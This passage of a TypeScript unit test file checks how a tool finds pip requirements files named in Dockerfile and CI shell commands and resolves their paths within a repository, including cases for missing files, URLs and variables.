    const got = namedRequirementsFiles(shellCommands(text), file).map(
      (n) => `${n.written}:${n.constraint ? 'c' : 'r'}`,
    );
    expect(got).toEqual(want);
  });

  it('keeps the line of the value', () => {
    expect(namedRequirementsFiles(shellCommands('RUN pip install \\\n  -r \\\n  x.lst\n'), 'Dockerfile')).toEqual([
      { written: 'x.lst', line: 3, constraint: false },
    ]);
  });
});

describe('locateNamedFile', () => {
  const files = new Set(['docker/deps/pins.lst', 'other/pins.lst', 'ci/dev.deps', 'ci/sub/x.lst']);
  const byBaseName = new Map<string, string[]>();
  for (const f of files) byBaseName.set(path.posix.basename(f), [...(byBaseName.get(path.posix.basename(f)) ?? []), f]);
  it.each([
    // Beside the naming file, then from the root.
    ['ci/run.sh', 'sub/x.lst', { paths: ['ci/sub/x.lst'] }],
    ['.github/workflows/ci.yml', 'ci/dev.deps', { paths: ['ci/dev.deps'] }],
    // An image path: the longest trailing part some file ends with.
    ['docker/Dockerfile', '/app/deps/pins.lst', { paths: ['docker/deps/pins.lst'] }],
    ['Dockerfile', '/app/pins.lst', { paths: ['docker/deps/pins.lst', 'other/pins.lst'] }],
    ['Dockerfile', '/app/none.lst', { unread: 'no file of the repository is at that path' }],
    ['Dockerfile', 'https://x.example/r.txt', { unread: 'it is a URL pip downloads' }],
    ['Dockerfile', '$REQS', { unread: 'a variable chooses it when the install runs' }],
  ])('%s names %s', (namedBy, written, want) => {
    expect(locateNamedFile(namedBy, written, files, byBaseName)).toEqual(want);
  });
});
